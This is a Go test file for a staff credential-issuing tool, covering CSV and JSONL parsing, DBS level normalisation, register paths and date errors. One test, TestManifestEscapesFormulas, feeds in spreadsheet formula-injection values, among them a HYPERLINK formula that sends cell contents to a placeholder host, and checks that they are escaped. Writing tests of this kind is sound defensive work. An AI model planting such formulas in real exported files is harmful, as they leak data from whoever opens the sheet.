package issue

import (
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// failingReader yields a CSV header, then fails as a lost network share
// or a bad disk does: the same error on every read.
type failingReader struct {
	header bool
	err    error
}

func (f *failingReader) Read(p []byte) (int, error) {
	if !f.header {
		f.header = true
		return copy(p, "staff_number,name,date_of_birth,role\nA1,Ann,1990-01-01,Nurse\n"), nil
	}
	return 0, f.err
}

// TestCSVReadErrorStops: an I/O error is reported as itself at once, not
// retried until the row limit.
func TestCSVReadErrorStops(t *testing.T) {
	gone := errors.New("input/output error")
	r, err := NewCSVReader(&failingReader{err: gone})
	if err != nil {
		t.Fatal(err)
	}
	var last error
	for i := 0; i < 5; i++ {
		if _, _, last = r.Next(); last != nil {
			break
		}
	}
	if !errors.Is(last, gone) || strings.Contains(last.Error(), "more than") {
		t.Fatalf("Next = %v, want the read error itself", last)
	}
	if r.row > 10 {
		t.Fatalf("the reader went on to row %d after the error", r.row)
	}
}

func TestJSONLDuplicateColumn(t *testing.T) {
	for _, in := range []string{
		`{"staff_number":"A1","name":"Ann","Name":"Bob","date_of_birth":"1990-01-01","role":"Nurse"}`,
		`{"staff_number":"A1","name":"Ann","name":"Bob","date_of_birth":"1990-01-01","role":"Nurse"}`,
		`{"staff_number":"A1","name":"Ann","Date-of-Birth":"1990-01-01","date_of_birth":"1991-01-01","role":"Nurse"}`,
	} {
		src := NewJSONLReader(strings.NewReader("\n" + in + "\n"))
		rec, errs, err := src.Next()
		if err != nil {
			t.Fatal(err)
		}
		if rec != nil || len(errs) != 1 || errs[0].Row != 2 || !strings.Contains(errs[0].Reason, "twice") {
			t.Fatalf("%s: record %v, errors %v; want the line refused for a repeated column", in, rec, errs)
		}
		if msg := errs[0].Error(); !strings.Contains(msg, "row 2") || !strings.Contains(msg, "column") {
			t.Fatalf("error %q does not name the line and column", msg)
		}
	}
	// Trailing text after the object is refused, as encoding/json did.
	rec, errs, err := NewJSONLReader(strings.NewReader(`{"staff_number":"A1"} {"x":1}`)).Next()
	if err != nil || rec != nil || len(errs) == 0 {
		t.Fatalf("trailing object: %v %v %v", rec, errs, err)
	}
}

// TestDBSLevelSpelling: the CSV reads a DBS level the way the site policy
// does (credential.NormalizeCode).
func TestDBSLevelSpelling(t *testing.T) {
	for _, lvl := range []string{"enhanced-barred", "Enhanced Barred", " ENHANCED_BARRED "} {
		r, err := NewCSVReader(strings.NewReader("staff_number,name,date_of_birth,role,dbs_date,dbs_level\nA1,Ann,1990-01-01,Nurse,2025-01-01," + lvl + "\n"))
		if err != nil {
			t.Fatal(err)
		}
		rec, errs, err := r.Next()
		if err != nil || len(errs) > 0 || rec.Checks[0].Level != "enhanced_barred" {
			t.Fatalf("%q: %v %v %v", lvl, rec, errs, err)
		}
	}
}

// TestRegisterPathWithHash: the register is the file named, whatever
// characters its path holds.
func TestRegisterPathWithHash(t *testing.T) {
	dir := t.TempDir()
	for _, name := range []string{"ward#3", "what?", "100%"} {
		path := filepath.Join(dir, name, "register.db")
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		reg, err := OpenRegister(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := reg.NewBatch("b1", "x", benchNow); err != nil {
			t.Fatal(err)
		}
		reg.Close()
		if st, err := os.Stat(path); err != nil || st.Size() == 0 {
			t.Fatalf("%s: the register was not written there (%v)", path, err)
		}
	}
	ents, _ := os.ReadDir(dir)
	if len(ents) != 3 {
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		t.Fatalf("files created: %q, want only the three directories", names)
	}
}

// TestRegisterBadDateReported: a date the register cannot parse is an
// error, not a zero time.
func TestRegisterBadDateReported(t *testing.T) {
	sum, err := Run(context.Background(), csvOpener(popCSV(t, 2)), Options{Issuer: testIssuer(t), OutDir: t.TempDir(), Now: benchNow})
	if err != nil {
		t.Fatal(err)
	}
	reg, err := OpenRegister(sum.Register)
	if err != nil {
		t.Fatal(err)
	}
	defer reg.Close()
	for _, col := range []string{"issued_at", "revoked_at"} {
		if _, err := reg.db.Exec(`UPDATE credentials SET ` + col + `='31/12/2026' WHERE row=2`); err != nil {
			t.Fatal(err)
		}
		err = reg.List(ListFilter{}, func(RegisterEntry) error { return nil })
		if err == nil || !strings.Contains(err.Error(), col) {
			t.Fatalf("%s damaged: List = %v, want an error naming it", col, err)
		}
		reg.db.Exec(`UPDATE credentials SET issued_at=expires, revoked_at=NULL WHERE row=2`)
	}
}

// TestManifestEscapesFormulas: names and staff numbers that a spreadsheet
// would run are written as text.
func TestManifestEscapesFormulas(t *testing.T) {
	in := "staff_number,name,date_of_birth,role\n" +
		"@cmd,\"=HYPERLINK(\"\"http://example.invalid/?\"\"&A1)\",1990-01-01,Nurse\n" +
		"+1,-SUM(A1:A2),1990-01-01,Nurse\n"
	sum, err := Run(context.Background(), csvOpener([]byte(in)), Options{Issuer: testIssuer(t), OutDir: t.TempDir(), Now: benchNow})
	if err != nil || sum.Issued != 2 {
		t.Fatalf("%+v %v", sum, err)
	}
	data, err := os.ReadFile(sum.Manifest)
	if err != nil {
		t.Fatal(err)
	}
	man := readManifest(t, sum.Manifest)
	for staff, name := range map[string]string{"'@cmd": `'=HYPERLINK("http://example.invalid/?"&A1)`, "'+1": "'-SUM(A1:A2)"} {
		if row, ok := man[staff]; !ok || row[2] != name {
			t.Fatalf("manifest row for %q: %q; manifest:\n%s", staff, row, data)
		}
	}
}

var _ io.Reader = (*failingReader)(nil)
